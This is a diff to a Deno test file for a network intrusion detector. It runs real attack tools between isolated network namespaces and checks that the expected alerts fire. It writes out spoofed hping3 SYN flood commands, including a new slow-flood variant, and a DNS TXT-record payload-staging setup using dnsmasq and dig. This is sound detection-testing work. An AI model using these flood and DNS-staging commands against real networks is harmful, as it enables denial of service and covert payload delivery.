@@ -84,10 +84,15 @@ const ICMP_TUNNEL_ALERT = {
 Deno.test("live attacks: real tools in network namespaces raise their alerts", async (t) => {
   const pair = await createNetnsPair("la");
   try {
-    // `count` SYNs (2 000) at 5 000 a second to the victim's `port`
-    // (hping3's default, 0, when none); hping3 exits 1 when nothing
-    // answered, so its own count is checked instead.
-    const synFlood = (options: string[], port?: number, count = 2_000) =>
+    // `count` SYNs (2 000) at 5 000 a second (one per `intervalUs`) to the
+    // victim's `port` (hping3's default, 0, when none); hping3 exits 1 when
+    // nothing answered, so its own count is checked instead.
+    const synFlood = (
+      options: string[],
+      port?: number,
+      count = 2_000,
+      intervalUs = 200,
+    ) =>
       run(pair.attackerNs, [
         "hping3",
         "-S",
@@ -96,12 +101,25 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
         "-c",
         String(count),
         "-i",
-        "u200",
+        `u${intervalUs}`,
         "-q",
         VICTIM,
       ], (_success, stderr) => {
         assert.match(stderr, new RegExp(`${count} packets transmitted`));
       });
+
+    // Runs `act` while the victim's default route points at the attacker's
+    // namespace: its answers to spoofed sources are then sent (and
+    // captured), and go no further, as that namespace does not forward.
+    const withVictimDefaultRoute = async <T>(act: () => Promise<T>) => {
+      const route = ["ip", "route"];
+      await run(pair.victimNs, [...route, "add", "default", "via", ATTACKER]);
+      try {
+        return await act();
+      } finally {
+        await run(pair.victimNs, [...route, "del", "default"]);
+      }
+    };
 
     await t.step("hping3 --rand-source: a spoofed SYN flood", async () => {
       const seen = await capture(pair, () => synFlood(["--rand-source"], 80));
@@ -147,6 +165,32 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
           victim: VICTIM,
           technique: "T1499.001",
         });
+      },
+    );
+
+    await t.step(
+      "hping3 --rand-source at 50 SYNs a second to a listening port: a slow SYN flood",
+      async () => {
+        // 400 SYNs in 8 s: 50 half-open a second, far below the one-second
+        // threshold (128), but the victim answers each and holds it (its
+        // SYN/ACKs to the spoofed sources take the default route).
+        const seen = await withVictimDefaultRoute(() =>
+          capture(
+            pair,
+            () =>
+              withHttpPeer(
+                pair,
+                () => synFlood(["--rand-source"], HTTP_PORT, 400, 20_000),
+              ),
+          )
+        );
+        assertAlert(seen, {
+          kind: "syn_flood",
+          attacker: "",
+          victim: VICTIM,
+          technique: "T1499.001",
+        });
+        assert.ok(seen.slowSynFlood, "the alert is no slow flood");
       },
     );
 
@@ -278,32 +322,27 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
       "hping3 --rand-source -p ++1000 at closed ports: a SYN flood over closed ports",
       async () => {
         // Each spoofed SYN to the next port, each refused by the victim's
-        // kernel. The refusals need a route: for this step the victim's
-        // default route points at the attacker's namespace, which does not
-        // forward them, so they are captured and go no further. 4 000 SYNs:
-        // more refusals than the host-wide threshold (2 048) within 1 s.
-        await run(pair.victimNs, [
-          "ip",
-          "route",
-          "add",
-          "default",
-          "via",
-          ATTACKER,
-        ]);
-        try {
-          const seen = await capture(
+        // kernel (the refusals take the default route). 4 000 SYNs, one per
+        // 100 µs asked (hping3 sends fewer on a busy machine): more
+        // refusals than the host-wide threshold (2 048) within 1 s.
+        const seen = await withVictimDefaultRoute(() =>
+          capture(
             pair,
-            () => synFlood(["--rand-source", "-p", "++1000"], undefined, 4_000),
-          );
-          assertAlert(seen, {
-            kind: "syn_flood",
-            attacker: "",
-            victim: VICTIM,
-            technique: "T1498",
-          });
-        } finally {
-          await run(pair.victimNs, ["ip", "route", "del", "default"]);
-        }
+            () =>
+              synFlood(
+                ["--rand-source", "-p", "++1000"],
+                undefined,
+                4_000,
+                100,
+              ),
+          )
+        );
+        assertAlert(seen, {
+          kind: "syn_flood",
+          attacker: "",
+          victim: VICTIM,
+          technique: "T1498",
+        });
       },
     );
 
@@ -1152,6 +1191,57 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
           attacker: ATTACKER,
           victim: VICTIM,
           technique: "T1571",
+        });
+      },
+    );
+
+    await t.step(
+      "dig: a stager on the victim fetching a payload in TXT answers from dnsmasq",
+      async () => {
+        // dnsmasq on the attacker's address serves 16 base64 chunks of 255
+        // characters as TXT records of 0.cdn.stage.test … 15.cdn.stage.test;
+        // the victim asks for each in turn (as a PowerShell download cradle
+        // over nslookup does). The names are short and plain: only the
+        // answers carry the payload.
+        const chunks = Array.from({ length: 16 }, (_, i) => {
+          const bytes = Uint8Array.from(
+            { length: 192 },
+            (_, j) => (i * 192 + j) * 31,
+          );
+          return btoa(String.fromCharCode(...bytes)).slice(0, 255);
+        });
+        const name = (i: number) => `${i}.cdn.stage.test`;
+        let dnsmasq: NsProcess | undefined;
+        const seen = await capture(pair, async () => {
+          try {
+            dnsmasq = startInNs(pair.attackerNs, [
+              "dnsmasq",
+              "--no-daemon",
+              "--conf-file=/dev/null",
+              "--no-resolv",
+              "--no-hosts",
+              "--bind-interfaces",
+              `--listen-address=${ATTACKER}`,
+              ...chunks.map((chunk, i) => `--txt-record=${name(i)},${chunk}`),
+            ]);
+            await dnsmasq.waitFor("started", READY_TIMEOUT_MS);
+            await run(pair.victimNs, [
+              "dig",
+              `@${ATTACKER}`,
+              "+short",
+              "+tries=1",
+              "+time=2",
+              ...chunks.flatMap((_, i) => ["TXT", name(i)]),
+            ]);
+          } finally {
+            await stopAll([dnsmasq]);
+          }
+        });
+        assertAlert(seen, {
+          kind: "dns_tunnel",
+          attacker: VICTIM,
+          victim: ATTACKER,
+          technique: "T1071.004",
         });
       },
     );
